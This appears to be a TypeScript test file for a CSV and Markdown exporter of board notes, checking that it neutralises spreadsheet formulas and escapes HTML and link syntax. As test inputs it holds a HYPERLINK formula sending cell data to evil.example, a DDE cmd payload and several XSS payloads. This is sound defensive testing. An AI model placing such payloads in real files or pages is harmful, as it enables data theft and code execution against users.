import { describe, expect, it } from 'vitest'

import type { AnswerNote, Answers } from './collectAnswers.ts'
import { formatAnswersCsv, formatAnswersMarkdown } from './formatAnswers.ts'

const note = (text: string, author: string | null = null): AnswerNote => ({
  kind: 'note',
  text,
  color: 'yellow',
  author,
  column: null,
})

/** One sheet, one section, the given notes; titles may carry what a board's owner typed. */
function answersWith(notes: AnswerNote[], titles: { sheet?: string; section?: string } = {}): Answers {
  return {
    sheets: [
      {
        sheetId: 'ark',
        title: titles.sheet ?? 'Ark',
        fields: [],
        sections: [
          {
            sectionId: 's',
            number: '1',
            title: titles.section ?? 'Behov',
            prompts: [],
            columns: [],
            fields: [],
            checks: [],
            notes,
          },
        ],
      },
    ],
    unplaced: [],
  }
}

const heading = (boardTitle = 'Tavle') => ({
  boardTitle,
  templateTitle: 'Mal',
  locale: 'nb' as const,
  exportedAt: new Date('2026-03-01T12:00:00Z'),
})

/** The content column of every data row (RFC 4180 quoting undone). */
function noteCells(csv: string): string[] {
  const rows = csv
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .slice(1, -1)
  return rows.map((row) => {
    const cells = row.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)!.map((cell) => cell.replace(/,$/, ''))
    const text = cells[5]!
    return text.startsWith('"') ? text.slice(1, -1).replace(/""/g, '"') : text
  })
}

describe('answers.csv', () => {
  it('neutralises cells a spreadsheet would run as a formula, and leaves the rest as written', () => {
    const texts = [
      '=HYPERLINK("http://evil.example/?"&A1,"Klikk")',
      '+1+cmd|" /C calc"!A0',
      '-2+3',
      '@SUM(A1:A9)',
      '\tTAB=1',
      '\r=1',
      'Vanlig tekst, med komma',
      'a = b',
    ]
    const cells = noteCells(formatAnswersCsv(answersWith(texts.map((t) => note(t))), 'nb'))
    expect(cells).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"Klikk")`,
      `'+1+cmd|" /C calc"!A0`,
      `'-2+3`,
      `'@SUM(A1:A9)`,
      `'\tTAB=1`,
      `'\r=1`,
      'Vanlig tekst, med komma',
      'a = b',
    ])
  })

  it('neutralises the author and the section title too', () => {
    const csv = formatAnswersCsv(answersWith([note('ok', '=cmd()')], { section: '@evil' }), 'nb')
    expect(csv).toContain(`,'@evil,,lapp,ok,`)
    expect(csv).toContain(`,'=cmd()\r\n`)
  })
})

describe('answers.md', () => {
  it('escapes HTML in every text from the board', () => {
    const md = formatAnswersMarkdown(
      answersWith([note('<img src=x onerror=alert(1)> & <script>alert(2)</script>', '<b>Kari</b>')], {
        sheet: '<iframe src="javascript:alert(3)">',
      }),
      heading('<svg onload=alert(4)>'),
    )
    expect(md).not.toMatch(/<[a-z]/i)
    expect(md).toContain('# &lt;svg onload=alert(4)&gt;')
    expect(md).toContain('## &lt;iframe src="javascript:alert(3)"&gt;')
    expect(md).toContain('- &lt;img src=x onerror=alert(1)&gt; &amp; &lt;script&gt;alert(2)&lt;/script&gt;')
    expect(md).toContain('&lt;b&gt;Kari&lt;/b&gt;')
  })

  it('lets no link or image form, so no javascript: URL can be followed', () => {
    const texts = [
      '[Klikk her](javascript:alert(1))',
      '![bilde](javascript:alert(2))',
      '<javascript:alert(3)>',
      '[ref]: javascript:alert(4)',
      '\\[escaped\\](javascript:alert(5))',
    ]
    const md = formatAnswersMarkdown(answersWith(texts.map((t) => note(t))), heading())
    // Every [ and ] the notes carried is escaped (preceded by an odd number of backslashes).
    const bullets = md
      .split('\n')
      .filter((line) => line.startsWith('- '))
      .map((line) => line.split(' _(')[0]!)
    for (const line of bullets) {
      for (const match of line.matchAll(/(\\*)[[\]]/g)) expect(match[1]!.length % 2).toBe(1)
    }
    expect(bullets[0]).toBe('- \\[Klikk her\\](javascript:alert(1))')
    expect(bullets[2]).toBe('- &lt;javascript:alert(3)&gt;')
    expect(bullets[4]).toBe('- \\\\\\[escaped\\\\\\](javascript:alert(5))')
  })
})
